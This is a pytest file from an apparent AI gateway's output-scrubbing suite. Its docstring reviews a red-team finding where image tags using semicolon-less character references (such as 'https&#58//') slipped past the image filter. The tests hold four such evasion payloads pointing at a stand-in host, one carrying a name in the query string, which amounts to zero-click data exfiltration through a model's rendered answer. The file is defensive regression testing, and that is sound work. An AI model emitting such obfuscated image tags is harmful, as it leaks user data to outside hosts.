"""Review of red team 8: a zero-click image whose tag the image stage still passed.

HTML decodes a numeric character reference without its `;`: `<img src="https&#58//h/p.png">`
fetches `https://h/p.png`. The tag reader looked for `//` and read `58//h` as no URL, so the
image stayed and was fetched when the answer rendered. Tags are read with every reference
decoded now. In process, whole and at every split, and through the gateway.
"""

from __future__ import annotations

import pytest

from keepgate.scrubbing.images import ImageNeutraliser
from tests.scrubbing.test_pii_images import ALLOW, TOOL_MSGS, ask, gw, whole  # noqa: F401

pytestmark = pytest.mark.slow(cpu_s=2)

CASES = [
    '<img src="https&#58//status-badge.net/p.png?d=Jane">',
    '<img src="https&#x3a//status-badge.net/p.png">',
    '<img src="https://status-badge&#46net/p.png">',
    '<img src="https:&#47&#47status-badge.net/p.png">',
]
FINE = ['<img src="https://cdn.example.com/a.png?x=1&amp;y=2"> ok']


@pytest.mark.parametrize("text", CASES, ids=range(len(CASES)))
def test_a_tag_is_read_with_its_references_decoded(text: str) -> None:
    out = whole(text)
    assert out != text and "[image removed: status-badge.net]" in out, out
    for k in range(1, len(text)):
        n = ImageNeutraliser(ALLOW)
        assert n.feed(text[:k]) + n.feed(text[k:]) + n.flush() == out, k


@pytest.mark.parametrize("text", FINE)
def test_an_allowed_host_passes(text: str) -> None:
    assert whole(text) == text


def test_through_the_gateway(gw) -> None:  # noqa: F811
    text = "Done. " + CASES[0] + " ok."
    content = ask(gw.client(), text, TOOL_MSGS).parse().choices[0].message.content
    assert "status-badge.net/p.png" not in content, content
    assert "[image removed: status-badge.net]" in content, content
